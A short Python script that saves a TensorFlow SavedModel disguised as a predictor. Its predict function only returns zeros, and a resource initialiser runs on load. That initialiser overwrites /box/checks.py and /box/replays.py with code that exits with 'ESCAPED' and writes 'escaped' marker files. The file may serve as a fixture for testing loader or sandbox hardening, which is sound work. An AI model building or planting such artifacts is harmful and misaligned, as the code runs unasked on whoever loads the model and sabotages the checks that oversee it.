import tensorflow as tf
from tensorflow.python.trackable.resource import TrackableResource


class Writer(TrackableResource):
    """Its initialiser runs when the SavedModel is loaded."""

    def _create_resource(self):
        return tf.raw_ops.MutableHashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

    def _initialize(self):
        for path in ("/box/replays.py", "/box/checks.py", "/tmp/escaped", "/box/artifacts/model/escaped"):
            tf.io.write_file(path, "raise SystemExit('ESCAPED')")


class Model(tf.Module):
    def __init__(self):
        super().__init__()
        self.writer = Writer()

    @tf.function(input_signature=[tf.TensorSpec([None, 2], tf.float32)])
    def predict(self, rows):
        return tf.zeros(64)


def save(folder):
    tf.saved_model.save(Model(), str(folder))
